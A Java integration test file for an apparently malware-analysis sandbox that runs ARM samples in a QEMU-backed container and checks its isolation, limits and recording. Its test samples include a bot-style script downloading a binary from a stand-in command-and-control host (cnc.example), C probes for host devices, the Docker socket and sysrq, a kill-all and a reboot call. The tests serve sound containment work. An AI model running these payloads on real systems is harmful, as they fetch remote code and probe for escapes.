package org.malassay.environments.container;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.malassay.behavior.Facet;
import org.malassay.behavior.FacetState;
import org.malassay.behavior.Origin;
import org.malassay.behavior.ProgramStarted;
import org.malassay.behavior.Question;
import org.malassay.behavior.SystemCall;
import org.malassay.elf.Architecture;
import org.malassay.environment.Ending;
import org.malassay.environment.Ending.Limit;
import org.malassay.environment.Environment;
import org.malassay.environment.Limits;
import org.malassay.environment.Piece;
import org.malassay.environments.contract.Assay;
import org.malassay.environments.contract.LinuxGuestContract;
import org.malassay.environments.contract.OddElf;
import org.malassay.environments.qemu.Leftovers;

/** A real engine in real machines, real ARM programs. */
@Tag("slow")
@Timeout(1800) // the first one builds the image
class ArmKernelGuestIT extends LinuxGuestContract {
  /** The room on the disk that is kept for what is delivered: container/machine/start.sh. */
  private static final long DELIVERED = 64 << 20;

  @Override
  protected Environment open(Limits limits) throws Exception {
    return ArmKernelHarness.open(Map.of("container.kernel", "arm"), limits);
  }

  @Override
  protected void assertNothingIsLeft() throws Exception {
    Leftovers.assertNone();
  }

  @Override
  protected String agent() {
    return "/malassay-agent";
  }

  @Override
  protected Duration time() {
    return Duration.ofSeconds(10);
  }

  @Override
  protected Duration slack() {
    return Duration.ofSeconds(30);
  }

  @Test
  void itIsTheContainerAndTellsWhichKernelExecutesSamples() {
    assertThat(environment().name()).isEqualTo("container");
    assertThat(environment().architectures())
        .containsExactlyInAnyOrder(Architecture.ARM, Architecture.AARCH64);
    assertThat(environment().facts())
        .containsEntry("variant", "ARM kernel (-Dcontainer.kernel=arm)");
    assertThat(environment().facts().get("kernel")).matches("\\d.*-arm64 \\(aarch64\\).*");
    assertThat(environment().facts().get("arm code"))
        .matches("qemu-system-aarch64 \\d.* \\(TCG\\), kernel \\d.*");
  }

  /**
   * All in one guest: none of them is refused that Linux takes. What is promised to a program is
   * bounded by the machine's memory, which is more than the container's.
   */
  @Test
  void oddFilesEndAsTheTableOfLinuxSays() throws Exception {
    Map<String, OddElf.Odd> table = OddElf.table(arm());
    Assay assay = assay(OddElf.driver(arm(), table));
    Map<String, Ending> linux = new LinkedHashMap<>(OddElf.linux(table));
    linux.put("512 MB of zeros", new Ending.Exited(7));
    assertThat(OddElf.told(assay.execution().stdout().text())).isEqualTo(linux);
  }

  /** What Docker gives a container unless it is told otherwise: moby, oci/caps/defaults.go. */
  @Test
  void theEnginesDefaultCapabilitiesAndSeccompProfileHold() throws Exception {
    Assay assay =
        assay(
            arm()
                .text(
                    "status",
                    ArmKernelHarness.script(
                        "grep -E '^(CapEff|CapBnd|Seccomp|NoNewPrivs):' /proc/self/status\n")));
    assertThat(assay.execution().stdout().text())
        .contains("CapEff:\t00000000a80425fb", "CapBnd:\t00000000a80425fb", "Seccomp:\t2");
  }

  @Test
  void theLimitsOnMemoryProcessesAndDiskAreTheContainers() throws Exception {
    Assay limits =
        assay(
            arm()
                .text(
                    "limits",
                    ArmKernelHarness.script(
                        "cat /sys/fs/cgroup/memory.max /sys/fs/cgroup/pids.max"
                            + " /sys/fs/cgroup/memory.swap.max\n")));
    assertThat(limits.execution().stdout().text())
        .isEqualTo("%d%n%d%n0%n".formatted(limits().memoryBytes(), limits().processes()));
    Assay fills =
        assay(
            "fills",
            """
            static char b[1 << 20]; char name[32]; memset(b, 'x', sizeof b);
            for (int i = 0; i < 400; i++) {
              sprintf(name, "piece%d", i); int f = creat(name, 0600); write(f, b, sizeof b); close(f);
            }
            for (;;) pause();
            """);
    assertThat(fills.execution().ending()).isEqualTo(new Ending.Stopped(Limit.DISK));
  }

  /**
   * Between two looks of the agent's a sample could take all that there is; so there is no more
   * than it may have, and room for what is delivered to it.
   */
  @Test
  void aFastSampleFindsTheDiskFullAndIsStoppedAllTheSame() throws Exception {
    Assay assay =
        assay(
            "allocates",
            """
            char name[32]; long long taken = 0; int failed = 0;
            for (int i = 0, size = 16 << 20; size >= 4096; i++) {
              sprintf(name, "piece%d", i);
              int f = open(name, O_CREAT | O_RDWR, 0600);
              if (fallocate(f, 0, 0, size)) { failed = errno; size /= 16; } else taken += size;
              close(f);
            }
            printf("%s %lld\\n", failed == ENOSPC ? "full" : strerror(failed), taken);
            fflush(stdout);
            for (;;) pause();
            """);
    String[] told = assay.execution().stdout().text().strip().split(" ");
    assertThat(told[0]).isEqualTo("full");
    assertThat(Long.parseLong(told[1]))
        .isBetween(limits().diskBytes(), limits().diskBytes() + DELIVERED);
    assertThat(assay.execution().ending()).isEqualTo(new Ending.Stopped(Limit.DISK));
  }

  /** The agent's ports, the machine's disk and its other processes are none of a container's. */
  @Test
  void nothingOfTheMachineIsInReach() throws Exception {
    Assay assay =
        assay(
            "reaches out",
            """
            for (int major = 1; major < 512; major++)
              for (int minor = 0; minor < 8; minor++)
                for (int block = 0; block < 2; block++) {
                  /* null, zero and their like, and terminals, as every container has them */
                  if (!block && (major == 1 || major == 5 || major == 136)) continue;
                  unlink("node");
                  if (mknod("node", block ? S_IFBLK | 0600 : S_IFCHR | 0600, major << 8 | minor))
                    continue;
                  int f = open("node", O_RDWR | O_NONBLOCK);
                  if (f >= 0) printf("%d:%d %d is open\\n", major, minor, block);
                }
            if (access("/dev/vport0p1", F_OK) == 0 || access("/run/docker.sock", F_OK) == 0)
              puts("something of the machine is there");
            if (open("/proc/1/fd/0", O_RDONLY) >= 0 || open("/proc/1/fd/1", O_WRONLY) >= 0)
              puts("the agent's ports are open");
            if (open("/proc/sysrq-trigger", O_WRONLY) >= 0) puts("sysrq is open");
            puts("end");
            """);
    assertThat(assay.execution().stdout().text()).isEqualTo("end\n");
    assertThat(assay.execution().ending()).isEqualTo(new Ending.Exited(0));
    assertThat(assay.after().available()).isTrue();
  }

  /** The engine is one for 32 bits, whose own profile would kill it by SIGSYS. */
  @Test
  void aProgramOfSixtyFourBitsRunsUnderTheSameProfile() throws Exception {
    Assay assay =
        assay(
            arm()
                .wideProgram(
                    "wide",
                    "puts(mount(\"none\", \"/mnt\", \"tmpfs\", 0, 0) ? strerror(errno) : \"?\"); return 9;"));
    assertThat(assay.execution().stdout().text()).isEqualTo("Operation not permitted\n");
    assertThat(assay.execution().ending()).isEqualTo(new Ending.Exited(9));
  }

  /** The recorder is the machine's, beside the container; the Internet the machine's own. */
  @Test
  void whatASampleDoesAndSaysIsToldOfTheContainer() throws Exception {
    assertThat(environment().observes())
        .containsEntry(Facet.CALLS, Origin.GUEST_KERNEL)
        .containsEntry(Facet.NETWORK, Origin.NETWORK);
    Assay assay =
        assay(
            arm()
                .text(
                    "bot",
                    ArmKernelHarness.script(
                        """
                        echo dropped >/tmp/dropped
                        busybox wget -qO /tmp/next http://cnc.example/bins/next.arm
                        tail -c +2 /tmp/next | head -c 3
                        """)));
    assertThat(assay.execution().stdout().text()).isEqualTo("ELF");
    assertThat(assay.execution().recording().of(Facet.CALLS)).isEqualTo(FacetState.OBSERVED);
    assertThat(assay.all(SystemCall.class))
        .anyMatch(call -> call.path().equals(Optional.of("/tmp/dropped")));
    assertThat(assay.all(Question.class))
        .extracting(it -> it.protocol() + " " + it.asked())
        .contains("dns A cnc.example", "http GET http://cnc.example/bins/next.arm");
    assertThat(assay.all(ProgramStarted.class))
        .extracting(ProgramStarted::program)
        .contains("/usr/bin/busybox");
  }

  /** It is the agent that listens to the service, as in any container. */
  @Test
  void whatTheServiceComplainsOfIsAmongTheEvidence() throws Exception {
    Assay assay =
        assay(
            arm()
                .text(
                    "asks",
                    ArmKernelHarness.script("wget -qO /dev/null http://127.0.0.1/is-not-there\n")));
    assertThat(assay.evidence().resolve(Piece.SERVICE_LOG.name()))
        .content()
        .contains("/is-not-there\" failed (2: No such file or directory)");
  }

  @Test
  void killingEverythingSparesTheAgentAndTheServiceIsSeenDead() throws Exception {
    Assay assay = assay("kills all", "kill(-1, SIGKILL); return 7;");
    assertThat(assay.execution().ending()).isEqualTo(new Ending.Exited(7));
    assertThat(assay.after().available()).isFalse();
  }

  /** A container has no right to do so, other than root in a machine. */
  @Test
  void aSampleCannotSwitchTheMachineOff() throws Exception {
    Assay assay =
        assay(
            "switches off",
            """
            printf("%ld ", syscall(SYS_reboot, 0xfee1dead, 672274793, 0x4321fedc, 0));
            puts(strerror(errno));
            """);
    assertThat(assay.execution().stdout().text()).isEqualTo("-1 Operation not permitted\n");
    assertThat(assay.after().available()).isTrue();
  }
}
